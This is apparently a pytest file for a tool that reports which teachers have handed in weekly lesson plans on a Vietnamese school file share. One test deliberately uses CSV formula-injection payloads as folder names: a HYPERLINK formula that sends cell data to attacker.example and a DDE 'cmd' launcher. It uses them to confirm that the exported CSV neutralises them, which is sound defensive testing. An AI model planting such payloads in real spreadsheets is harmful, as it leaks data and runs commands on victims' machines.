"""The managers' completeness report over a real school-share tree of .docx lesson plans.

The HTML is opened in headless Chromium (screenshot and print to PDF) when it is installed.
"""

from __future__ import annotations

import csv
import dataclasses
import functools
import html
import io
import re
import subprocess
import unicodedata
from datetime import date
from pathlib import Path

import pytest
from docx import Document as DocxDocument
from PIL import Image
from pypdf import PdfReader

from agent.conflictname import CopyKind, copy_kind, original_name
from agent.documents.readers import read_document
from agent.i18n import language
from agent.model import RelPath
from agent.records import Finding, RecordType, Severity
from agent.recordtypes import load_types_file, shipped_types_file
from agent.textfold import fold
from agent.trash import free_name
from plugins.validation.checks import check_record
from plugins.validation.report import (
    CompletenessReport,
    build_report,
    to_csv,
    to_html,
    to_json,
)
from plugins.validation.template import write_template

CHROMIUM = Path("/usr/bin/chromium")
TODAY = date(2024, 9, 30)
WEEKS = (1, 2, 3)

SCN = RecordType(
    code="SCN",
    name_vi="Sổ chủ nhiệm",
    name_en="Homeroom book",
    folders=("so chu nhiem*",),
    files=("so chu nhiem*",),
    formats=(".docx", ".xlsx"),
)
KHBD = RecordType(
    code="KHBD",
    name_vi="Kế hoạch bài dạy",
    name_en="Lesson plan",
    folders=("ke hoach bai day*",),
    files=("khbd*",),
    fallback_folders=("tuan *", "t[0-9]", "t[0-9][0-9]"),
    formats=(".docx", ".odt", ".pdf", ".doc"),
)
TYPES = (SCN, KHBD)

AN = "Tổ 1/Nguyễn Văn An"
BINH = "Tổ 1/Trần Thị Bình"
CUONG = "Tổ 2/Lê Văn Cường"


def write_lesson_plan(path: Path, lesson: str) -> None:
    """A small but real lesson plan in the layout of CV 2345, Phụ lục 3."""
    path.parent.mkdir(parents=True, exist_ok=True)
    doc = DocxDocument()
    doc.add_heading("KẾ HOẠCH BÀI DẠY", level=0)
    doc.add_paragraph("Môn học: Toán — Lớp 2")
    doc.add_paragraph(f"Tên bài học: {lesson}")
    for heading in (
        "I. Yêu cầu cần đạt",
        "II. Đồ dùng dạy học",
        "III. Các hoạt động dạy học chủ yếu",
        "IV. Điều chỉnh sau bài dạy",
    ):
        doc.add_heading(heading, level=1)
        doc.add_paragraph("Học sinh thực hiện được phép cộng có nhớ trong phạm vi 100.")
    doc.save(str(path))


class Recorder:
    """A check that flags file names containing "loi" (lỗi, error) with an error, and gives
    every file a warning, which must not count as failing."""

    def __init__(self) -> None:
        self.calls: list[tuple[RelPath, str | None]] = []

    def __call__(self, file: Path, path: RelPath, record_type: RecordType | None) -> list[Finding]:
        assert file.is_file()
        self.calls.append((path, record_type.code if record_type else None))
        findings = [Finding(path, "test.note", Severity.WARNING, "a warning", "nothing")]
        if "loi" in fold(path.rpartition("/")[2]):
            findings.append(
                Finding(path, "test.error", Severity.ERROR, "Thiếu mục Rút kinh nghiệm", "Thêm")
            )
        return findings


def nfd(text: str) -> str:
    return unicodedata.normalize("NFD", text)


@pytest.fixture
def school(tmp_path: Path) -> Path:
    root = tmp_path / "Trường TH Bình Chánh"
    an = root / AN
    write_lesson_plan(an / "Tuần 1/Bài 1 - Toán.docx", "Bài 1")
    write_lesson_plan(an / "Tuần 1/Bài 2 - Tiếng Việt.docx", "Bài 2")
    write_lesson_plan(an / "Tuan_02/Bài 3 - lỗi.docx", "Bài 3")  # fails the check
    write_lesson_plan(an / "Tuần 9/Bài 30.docx", "Bài 30")  # outside the weeks asked for
    write_lesson_plan(an / "Kế hoạch bài dạy/Bài 40 ôn tập.docx", "Bài 40")  # no week
    write_lesson_plan(an / "Sổ chủ nhiệm/Bài 1 sổ.docx", "not a lesson plan")
    write_lesson_plan(
        an / "Tuần 1/Bài 1 - Toán (bản xung đột, máy PC-AN, 2024-09-10 08h00).docx", "Bài 1"
    )
    (an / "Tuần 1/~$Bài 1 - Toán.docx").write_bytes(b"\x00lock")  # Word's lock file
    (an / "Kế hoạch bài dạy/Thumbs.db").write_bytes(b"thumbs")  # Windows' thumbnail cache
    (an / "Tuần 1/Ảnh lớp.jpg").write_bytes(b"\xff\xd8 not a document")
    write_lesson_plan(an / "Tuần 2/Sổ chủ nhiệm tuần 2.docx", "a homeroom note, not a lesson")
    (an / "Tuần 2/Bài 4 - Đạo đức.doc").write_bytes(b"\xd0\xcf\x11\xe0 old Word")
    write_lesson_plan(an / ".hoso-trash/Tuần 3/Bài 9.docx", "Bài 9")
    write_lesson_plan(an / ".Tuần 3/Bài 9.docx", "Bài 9")
    (an / "Tuần 3").mkdir()  # a week folder with nothing in it is still missing
    # Bình's folder is spelt the macOS way (NFD): the report speaks NFC.
    binh = root / nfd(BINH)
    write_lesson_plan(binh / "T1/Bài 1.docx", "Bài 1")
    write_lesson_plan(binh / nfd("Tuần 03") / "Bài 5.docx", "Bài 5")
    write_lesson_plan(binh / "Tuần 3/Toán/Bài 6.docx", "Bài 6")
    (root / CUONG).mkdir(parents=True)  # a teacher who has handed in nothing at all
    write_lesson_plan(root / "Tổ 1/KHBD mẫu.docx", "mẫu")  # outside any teacher folder
    write_lesson_plan(root / ".hoso-state/Tuần 1/Bài 1.docx", "Bài 1")
    return root


CSV_KEYS = (
    "teacher",
    "week",
    "present",
    "failing",
    "missing",
    "files",
    "conflicts",
    "restored",
    "blank",
)


def csv_rows(text: str) -> list[dict[str, str]]:
    """The CSV's rows by column, whatever the language of its header row."""
    rows = list(csv.reader(io.StringIO(text)))
    return [dict(zip(CSV_KEYS, row, strict=True)) for row in rows[1:]]


def build(
    folder: Path,
    check: Recorder | None = None,
    weeks: tuple[int, ...] = WEEKS,
    teacher_depth: int = 2,
) -> CompletenessReport:
    return build_report(
        folder,
        types=TYPES,
        check=check or Recorder(),
        weeks=weeks,
        teacher_depth=teacher_depth,
        today=TODAY,
    )


def test_json_counts_weeks_failures_and_missing_weeks(school: Path) -> None:
    check = Recorder()
    data = to_json(build(school, check))
    assert data["version"] == 1
    assert data["date"] == "2024-09-30"
    assert data["weeks"] == [1, 2, 3]
    assert [t["folder"] for t in data["teachers"]] == [AN, BINH, CUONG]
    an, binh, cuong = data["teachers"]
    assert (an["teacher"], an["group"]) == ("Nguyễn Văn An", "Tổ 1")

    week1, week2, week3 = an["weeks"]
    assert week1["files"] == [
        f"{AN}/Tuần 1/Bài 1 - Toán.docx",
        f"{AN}/Tuần 1/Bài 2 - Tiếng Việt.docx",
    ]
    # The conflict copy is listed apart, not counted as a lesson plan handed in.
    assert (week1["present"], week1["failing"], week1["missing"]) == (2, 0, False)
    assert week1["conflicts"] == [
        f"{AN}/Tuần 1/Bài 1 - Toán (bản xung đột, máy PC-AN, 2024-09-10 08h00).docx"
    ]
    # An unclassified document in a week is a lesson plan, an old .doc too; a photo is not.
    assert week2["files"] == [
        f"{AN}/Tuan_02/Bài 3 - lỗi.docx",
        f"{AN}/Tuần 2/Bài 4 - Đạo đức.doc",
    ]
    assert (week2["present"], week2["failing"], week2["missing"]) == (2, 1, False)
    [failing] = week2["failing_files"]
    assert failing["path"] == f"{AN}/Tuan_02/Bài 3 - lỗi.docx"
    assert [f["rule"] for f in failing["findings"]] == ["test.error"]  # errors only
    assert failing["findings"][0]["message"] == "Thiếu mục Rút kinh nghiệm"
    assert (week3["present"], week3["missing"], week3["files"]) == (0, True, [])
    assert an["no_week"]["week"] is None
    assert an["no_week"]["files"] == [f"{AN}/Kế hoạch bài dạy/Bài 40 ôn tập.docx"]
    assert an["no_week"]["missing"] is False
    assert an["summary"] == {
        "lesson_plans": 5,
        "weeks_present": 2,
        "weeks_missing": 1,
        "failing": 1,
        "no_week": 1,
        "conflicts": 1,
        "restored": 0,
        "blank": 0,
    }

    assert [w["present"] for w in binh["weeks"]] == [1, 0, 2]
    assert binh["weeks"][2]["files"] == [
        f"{BINH}/Tuần 03/Bài 5.docx",
        f"{BINH}/Tuần 3/Toán/Bài 6.docx",
    ]
    assert all(unicodedata.is_normalized("NFC", p) for w in binh["weeks"] for p in w["files"])
    assert [w["missing"] for w in binh["weeks"]] == [False, True, False]

    assert cuong["summary"]["weeks_missing"] == 3
    assert cuong["summary"]["lesson_plans"] == 0
    assert data["unassigned"] == ["Tổ 1/KHBD mẫu.docx"]

    # The check ran on exactly the lesson plans the report shows, each with its type.
    shown = {p for t in data["teachers"] for c in [*t["weeks"], t["no_week"]] for p in c["files"]}
    assert sorted(check.calls) == sorted((p, "KHBD") for p in shown)


def test_teacher_depth_one_makes_the_group_folders_teachers(school: Path) -> None:
    report = build_report(
        school, types=TYPES, check=Recorder(), weeks=WEEKS, teacher_depth=1, today=TODAY
    )
    data = to_json(report)
    assert [(t["teacher"], t["group"]) for t in data["teachers"]] == [("Tổ 1", ""), ("Tổ 2", "")]
    tổ1 = data["teachers"][0]
    # Teacher folders are part of the path below the "teacher" now, and still hold no week.
    assert [w["present"] for w in tổ1["weeks"]] == [3, 2, 2]
    assert f"{AN}/Kế hoạch bài dạy/Bài 40 ôn tập.docx" in tổ1["no_week"]["files"]
    assert "Tổ 1/KHBD mẫu.docx" in tổ1["no_week"]["files"]
    assert data["unassigned"] == []


def test_the_shipped_record_types_count_week_documents_as_lesson_plans(tmp_path: Path) -> None:
    root = tmp_path / "share"
    write_lesson_plan(root / "Cô Hà/Tuần 1/Toán - Bài 1.docx", "Bài 1")
    write_lesson_plan(root / "Cô Hà/Tuần 1/Sổ chủ nhiệm tháng 9.docx", "sổ")
    write_lesson_plan(root / "Cô Hà/Giáo án cũ/Bài 2.docx", "Bài 2")
    types = load_types_file(shipped_types_file())
    data = to_json(build_report(root, types=types, check=Recorder(), weeks=(1,), today=TODAY))
    [teacher] = data["teachers"]
    assert teacher["weeks"][0]["files"] == ["Cô Hà/Tuần 1/Toán - Bài 1.docx"]
    assert teacher["no_week"]["files"] == ["Cô Hà/Giáo án cũ/Bài 2.docx"]


def test_weeks_are_reported_in_the_order_asked_and_others_ignored(school: Path) -> None:
    data = to_json(build(school, weeks=(9, 1)))
    an = data["teachers"][0]
    assert [(w["week"], w["present"]) for w in an["weeks"]] == [(9, 1), (1, 2)]


def test_csv_has_one_row_per_teacher_and_week_plus_undated_rows(school: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(build(school)))))
    assert list(rows[0]) == [
        "Teacher",
        "Week",
        "Lesson plans",
        "With errors",
        "Missing",
        "Files",
        "Conflict copies",
        "Restored copies",
        "Blank lesson plans",
    ]
    rows = [dict(zip(CSV_KEYS, r.values(), strict=True)) for r in rows]
    table = [(r["teacher"], r["week"], r["present"], r["failing"], r["missing"]) for r in rows]
    assert table == [
        (AN, "1", "2", "0", "0"),
        (AN, "2", "2", "1", "0"),
        (AN, "3", "0", "0", "1"),
        (AN, "", "1", "0", "0"),
        (BINH, "1", "1", "0", "0"),
        (BINH, "2", "0", "0", "1"),
        (BINH, "3", "2", "0", "0"),
        (CUONG, "1", "0", "0", "1"),
        (CUONG, "2", "0", "0", "1"),
        (CUONG, "3", "0", "0", "1"),
    ]
    assert rows[1]["files"] == "Tuan_02/Bài 3 - lỗi.docx | Tuần 2/Bài 4 - Đạo đức.doc"
    assert rows[6]["files"] == "Tuần 03/Bài 5.docx | Tuần 3/Toán/Bài 6.docx"
    assert rows[0]["conflicts"] == "1"


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    """Folder and file names from the share reach a spreadsheet as text, never as formulas;
    JSON and HTML carry the names unchanged."""
    root = tmp_path / "share"
    hyperlink = '=HYPERLINK("https:\\\\attacker.example?d="&A1,"Bấm vào đây")'  # no "/" in a name
    names = {
        hyperlink: "Bài 1.docx",
        "+cmd|' -C calc'!A0": "@SUM(1+1).docx",
        "-2+3": "\tBài 2.docx",
        "Cô Hà": "Bài 3.docx",
    }
    for teacher, file in names.items():
        write_lesson_plan(root / teacher / "Tuần 1" / file, file)
    report = build(root, weeks=(1,), teacher_depth=1)
    rows = csv_rows(to_csv(report))
    read = {r["teacher"]: r["files"] for r in rows}
    assert read == {
        "'" + hyperlink: "Tuần 1/Bài 1.docx",
        "'+cmd|' -C calc'!A0": "Tuần 1/@SUM(1+1).docx",
        "'-2+3": "Tuần 1/\tBài 2.docx",
        "Cô Hà": "Tuần 1/Bài 3.docx",
    }
    # Record types are the school's to define: one may take any "Bài …" file, even one at
    # the teacher folder's top, so the files column can start with a file's name too.
    (root / "Cô Hà" / "Tuần 1" / "Bài 3.docx").rename(root / "Cô Hà" / "@Bài 3.docx")
    any_lesson = dataclasses.replace(KHBD, files=("*bai*",))
    again = build_report(
        root, types=(any_lesson,), check=Recorder(), weeks=(1,), teacher_depth=1, today=TODAY
    )
    rows = csv_rows(to_csv(again))
    undated = next(r for r in rows if r["teacher"] == "Cô Hà" and r["week"] == "")
    assert undated["files"] == "'@Bài 3.docx"
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values()
    )
    data = to_json(report)
    assert {t["folder"] for t in data["teachers"]} == set(names)
    assert html.escape(hyperlink) in to_html(report)  # escaped for HTML, no quote added


def test_conflict_copies_of_hoso_nextcloud_and_dropbox_are_flagged(tmp_path: Path) -> None:
    week = tmp_path / "share/Cô Hà/Tuần 1"
    names = [
        "Bài 1 (bản xung đột, máy PC-HA, 2024-09-10 08h00).docx",
        "Bài 1 (conflicted copy 2024-09-10 101500).docx",
        "Bài 1 (Hà's conflicted copy 2024-09-10).docx",
        "Bài 1_conflict-20240910-101500.docx",
        "Bài 1.docx",
        "Bài 2 xung đột lớp.docx",
        "Bài 10 conflict.docx",
    ]
    for name in names:
        write_lesson_plan(week / name, name)
    data = to_json(build(tmp_path / "share", weeks=(1,), teacher_depth=1))
    cell = data["teachers"][0]["weeks"][0]
    assert cell["present"] == 3
    assert [p.rpartition("/")[2] for p in cell["conflicts"]] == names[:4]
    assert data["teachers"][0]["summary"]["conflicts"] == 4


def test_files_sort_by_number_value(tmp_path: Path) -> None:
    for name in ("Bài 10.docx", "Bài 9.docx", "bài 2².docx", "Bài 1.docx"):
        write_lesson_plan(tmp_path / "share/Cô Hà/Tuần 1" / name, name)
    report = build(tmp_path / "share", weeks=(1,), teacher_depth=1)
    cell = to_json(report)["teachers"][0]["weeks"][0]
    assert [p.rpartition("/")[2] for p in cell["files"]] == [
        "Bài 1.docx",
        "bài 2².docx",
        "Bài 9.docx",
        "Bài 10.docx",
    ]


def test_a_missing_folder_is_refused(tmp_path: Path) -> None:
    with pytest.raises(NotADirectoryError):
        build(tmp_path / "không có")


def test_an_empty_share_gives_an_empty_report(tmp_path: Path) -> None:
    report = build(tmp_path)
    assert to_json(report)["teachers"] == []
    assert to_csv(report).splitlines() == [
        "Teacher,Week,Lesson plans,With errors,Missing,Files,Conflict copies,Restored copies,"
        "Blank lesson plans"
    ]
    assert "<table" in to_html(report)


# --- HTML ------------------------------------------------------------------------------------


def test_html_is_self_contained_and_escapes_names(tmp_path: Path) -> None:
    root = tmp_path / "share"
    write_lesson_plan(root / "<Cô> Hà & Co/Tuần 1/Bài 1 <i>lỗi & nháp.docx", "Bài 1")
    page = to_html(build_report(root, types=TYPES, check=Recorder(), weeks=(1,), today=TODAY))
    assert "&lt;Cô&gt; Hà &amp; Co" in page
    assert "Tuần 1/Bài 1 &lt;i&gt;lỗi &amp; nháp.docx" in page
    assert "<Cô>" not in page and "<i>lỗi" not in page
    lowered = page.lower()
    for external in ("<script", "src=", "href=", "@import", "url(", "http://", "https://"):
        assert external not in lowered
    assert "@page { size: A4; margin: 12mm }" in page
    assert "thead { display: table-header-group }" in page


def test_html_splits_many_weeks_into_tables_of_twelve(school: Path) -> None:
    page = to_html(build(school, weeks=tuple(range(1, 36))))
    assert page.count('<table class="weeks">') == 3
    assert re.findall(r"<th>W(\d+)</th>", page) == [str(n) for n in range(1, 36)]
    assert "Weeks: 1–35" in page


def test_html_lists_failing_files_with_their_messages(school: Path) -> None:
    page = to_html(build(school))
    assert "Trường TH Bình Chánh" in page
    assert "30/09/2024" in page
    assert "Weeks: 1–3" in page
    failing = page.split("Lesson plans with errors", 1)[1]
    assert "Tuan_02/Bài 3 - lỗi.docx" in failing
    assert "Thiếu mục Rút kinh nghiệm" in failing
    assert "Kế hoạch bài dạy/Bài 40 ôn tập.docx" in page.split("Lesson plans without a week")[1]
    assert "bản xung đột, máy PC-AN" in page.split("Conflict copies to resolve")[1]
    assert "Tổ 1/KHBD mẫu.docx" in page.split("Lesson plans outside any teacher folder")[1]


def chromium(tmp_path: Path, *args: str) -> None:
    if not CHROMIUM.exists():
        pytest.skip("headless Chromium (/usr/bin/chromium, Debian package chromium) is missing")
    profile = tmp_path / "chromium-profile"
    command = [
        str(CHROMIUM),
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--no-first-run",
        "--hide-scrollbars",
        "--force-device-scale-factor=1",
        f"--user-data-dir={profile}",
        *args,
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=120)


@pytest.fixture
def html_file(school: Path, tmp_path: Path) -> Path:
    page = tmp_path / "report.html"
    page.write_text(to_html(build(school)), encoding="utf-8")
    return page


def pixels_near(image: Image.Image, colour: tuple[int, int, int], tolerance: int = 6) -> int:
    rgb = image.convert("RGB")
    near = 0
    for count, pixel in rgb.getcolors(rgb.width * rgb.height) or []:
        assert isinstance(pixel, tuple)  # an RGB image has (r, g, b) colours
        if all(abs(a - b) <= tolerance for a, b in zip(pixel, colour, strict=True)):
            near += count
    return near


HEADER_BLUE = (0x1F, 0x3A, 0x93)
MISSING_RED = (0xF4, 0xA6, 0xA6)
FAILING_AMBER = (0xFF, 0xD9, 0x66)


def test_html_renders_the_tables_in_chromium(html_file: Path, tmp_path: Path) -> None:
    shot = tmp_path / "report.png"
    chromium(tmp_path, f"--screenshot={shot}", "--window-size=1200,1600", html_file.as_uri())
    image = Image.open(shot)
    assert image.size == (1200, 1600)
    # Two header rows (summary and weeks) span the page width: thousands of blue pixels.
    assert pixels_near(image, HEADER_BLUE) > 20_000
    # Five missing weeks (An 3, Bình 2, Cường 1–3) and one failing week.
    assert pixels_near(image, MISSING_RED) > 5 * 1_000
    assert pixels_near(image, FAILING_AMBER) > 1_000


def test_html_prints_on_a4_with_the_names_in_the_text(html_file: Path, tmp_path: Path) -> None:
    pdf = tmp_path / "report.pdf"
    chromium(tmp_path, f"--print-to-pdf={pdf}", "--no-pdf-header-footer", html_file.as_uri())
    reader = PdfReader(pdf)
    assert len(reader.pages) >= 1
    for page in reader.pages:
        width, height = float(page.mediabox.width), float(page.mediabox.height)
        assert abs(width - 595) <= 2 and abs(height - 842) <= 2, (width, height)
    text = unicodedata.normalize("NFC", "\n".join(p.extract_text() for p in reader.pages))
    assert "Nguyễn Văn An" in text
    assert "Lê Văn Cường" in text


# --- what counts as handed in, and who (issue 17) --------------------------------------------


@pytest.mark.parametrize("code", ["en", "vi"])
def test_a_copy_restored_from_the_trash_is_recognised_in_either_language(code: str) -> None:
    # The name `hoso trash restore` gives beside a taken name, in the restoring PC's language;
    # a manager reads the share in theirs.
    with language(code):
        restored = free_name("Tuần 1/Bài 1.docx", lambda p: p == "Tuần 1/Bài 1.docx")
    assert restored != "Tuần 1/Bài 1.docx"
    assert copy_kind(restored) is CopyKind.RESTORED
    assert copy_kind("Tuần 1/Bài 1.docx") is None
    assert copy_kind("Tuần 1/Bài 1 (bản xung đột, máy PC, 2026-11-29 09h30).docx") is (
        CopyKind.CONFLICT
    )


@pytest.mark.parametrize(
    ("copy", "original"),
    [
        ("Tuần 1/Bài 1 (khôi phục 1).docx", "Tuần 1/Bài 1.docx"),
        ("Bài 1 (restored 12).docx", "Bài 1.docx"),
        ("a/Bài 1 (bản xung đột, máy gv.lan, 2026-11-29 09h30, 2).docx", "a/Bài 1.docx"),
        ("Bài 1 (conflicted copy 2024-09-10 101500).docx", "Bài 1.docx"),
        ("Bài 1 (Hà's conflicted copy 2024-09-10).docx", "Bài 1.docx"),
        ("Bài (1)_conflict-20240910-101500.docx", "Bài (1).docx"),
        ("Bài 1 (bản xung đột, máy PC, 2026-11-29 09h30) (restored 1).docx", "Bài 1.docx"),
        ("Ghi chú (khôi phục 1)", "Ghi chú"),
        ("Bài 1.docx", None),
        ("Bài (1).docx", None),
    ],
)
def test_a_copy_names_its_original(copy: str, original: str | None) -> None:
    assert original_name(copy) == original


def test_restored_copies_and_blank_plans_are_listed_apart_and_not_counted(
    tmp_path: Path,
) -> None:
    week = tmp_path / "share/lan/Tuần 1"
    write_lesson_plan(week / "Bài 1.docx", "Bài 1")
    write_lesson_plan(week / "Bài 1 (khôi phục 1).docx", "Bài 1")
    write_lesson_plan(week / "Bài 1 (restored 2).docx", "Bài 1")
    write_lesson_plan(week / "Bài 1 (bản xung đột, máy PC-LAN, 2026-11-29 09h30).docx", "Bài 1")
    blank = tmp_path / "share/lan/Tuần 2/Bài 2.docx"
    blank.parent.mkdir(parents=True)
    write_template(blank)  # `hoso template khbd`, untouched
    report = build_report(
        tmp_path / "share",
        types=load_types_file(shipped_types_file()),
        check=functools.partial(  # the real checks, reading in this process
            check_record, today=TODAY, year_start=date(2024, 9, 2), size=1, read=read_document
        ),
        weeks=(1, 2),
        today=TODAY,
        names={"lan": "Nguyễn Thị Lan"}.get,
    )
    [teacher] = to_json(report)["teachers"]
    week1, week2 = teacher["weeks"]
    assert teacher["teacher"] == "Nguyễn Thị Lan" and teacher["folder"] == "lan"
    assert (week1["present"], week1["files"]) == (1, ["lan/Tuần 1/Bài 1.docx"])
    assert [p.rpartition("/")[2] for p in week1["restored"]] == [
        "Bài 1 (khôi phục 1).docx",
        "Bài 1 (restored 2).docx",
    ]
    assert len(week1["conflicts"]) == 1
    assert (week2["present"], week2["missing"], week2["blank"]) == (
        0,
        True,
        ["lan/Tuần 2/Bài 2.docx"],
    )
    assert teacher["summary"]["lesson_plans"] == 1
    assert (teacher["summary"]["restored"], teacher["summary"]["blank"]) == (2, 1)
    page = to_html(report)
    assert "Bài 2.docx" in page.split("Blank lesson plans (not counted)")[1]
    assert "Bài 1 (khôi phục 1).docx" in page.split("Copies restored beside the original")[1]
    assert '<td class="teacher">Nguyễn Thị Lan</td>' in page


def test_a_copy_kept_as_the_only_version_counts_as_handed_in(tmp_path: Path) -> None:
    """The teacher kept the restored copy (or the conflict copy) and deleted the other: it is
    the lesson plan of that week, not a second version to resolve."""
    week = tmp_path / "share/lan/Tuần 1"
    write_lesson_plan(week / "Bài 1 (khôi phục 1).docx", "Bài 1")
    write_lesson_plan(week / "Bài 2 (bản xung đột, máy PC-LAN, 2026-11-29 09h30).docx", "Bài 2")
    data = to_json(build(tmp_path / "share", weeks=(1,), teacher_depth=1))
    [cell] = data["teachers"][0]["weeks"]
    assert [p.rpartition("/")[2] for p in cell["files"]] == [
        "Bài 1 (khôi phục 1).docx",
        "Bài 2 (bản xung đột, máy PC-LAN, 2026-11-29 09h30).docx",
    ]
    assert (cell["present"], cell["restored"], cell["conflicts"]) == (2, [], [])
    assert data["teachers"][0]["summary"]["lesson_plans"] == 2
